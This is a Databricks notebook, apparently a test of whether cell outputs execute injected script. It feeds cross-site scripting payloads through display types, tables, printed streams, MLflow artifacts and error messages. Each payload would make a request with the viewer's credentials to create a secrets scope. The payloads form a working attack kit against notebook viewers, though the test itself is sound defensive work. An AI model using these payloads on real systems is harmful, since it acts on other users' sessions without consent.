# Databricks notebook source
# Outputs of every type with data that tries to act for the person who looks at them.
import mlflow
from IPython.display import publish_display_data

ACT = (
    "fetch('/api/2.0/secrets/scopes/create', {method: 'POST', credentials: 'include', "
    "headers: {'Content-Type': 'application/json'}, body: JSON.stringify({scope: 'taken-by-KIND'})})"
)
TRIES = [
    "<script>ACT</script>",
    "<img src=x onerror=\"ACT\">",
    "\"><img src=x onerror=\"ACT\">",
    "x\" onerror=\"ACT\" alt=\"",
    "<svg onload=\"ACT\"></svg>",
    "<a href=\"javascript:ACT\">click</a>",
    "[click](javascript:ACT)",
    "<iframe srcdoc=\"<script>ACT</script>\"></iframe>",
    "<form action='/api/2.0/secrets/scopes/create' method='post'><input name='scope' value='taken-by-KIND'></form>"
    "<script>document.forms[0].submit()</script>",
    "<meta http-equiv='refresh' content='0;url=javascript:ACT'>",
    "\x1b[31m<script>ACT</script>\x1b[0m",
    "$\\href{javascript:ACT}{x}$",
]
TYPES = [
    "text/html",
    "text/plain",
    "text/markdown",
    "text/latex",
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/svg+xml",
    "application/json",
    "application/javascript",
    "application/pdf",
    "application/vnd.plotly.v1+json",
    "application/vnd.vega.v5+json",
    "application/vnd.jupyter.widget-view+json",
    "video/mp4\"><script>ACT</script>",
]


def attempts(kind):
    return [text.replace("ACT", ACT.replace("\"", "&quot;")).replace("KIND", kind) for text in TRIES]


# COMMAND ----------

# DBTITLE 1,every type
for number, kind in enumerate(TYPES):
    name = f"type-{number}"
    for text in [*attempts(name), "<svg xmlns='http://www.w3.org/2000/svg'><script>" + ACT + "</script></svg>"]:
        data = {"data": [{"type": "bar", "x": [text], "y": [1], "name": text}], "layout": {"title": {"text": text}}}
        publish_display_data({kind: data if "plotly" in kind else text})

# COMMAND ----------

# DBTITLE 1,streams
for text in attempts("stream"):
    print(text)

# COMMAND ----------

# DBTITLE 1,tables
import pandas

display(pandas.DataFrame({text: [text] for text in attempts("table")}))
display([{"text": text} for text in attempts("rows")])
displayHTML("".join(attempts("displayHTML")))

# COMMAND ----------

# DBTITLE 1,an artifact
mlflow.set_experiment("/Shared/fidelity")
with mlflow.start_run() as run:
    for name in ("evil.js", "evil.html", "evil.svg"):
        code = ACT.replace("KIND", "artifact")
        as_page = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{code}</script></svg>"
        mlflow.log_text(code if name.endswith("js") else as_page, name)
print("logged by", run.info.run_id)

# COMMAND ----------

# DBTITLE 1,an error
raise ValueError("".join(attempts("error")))
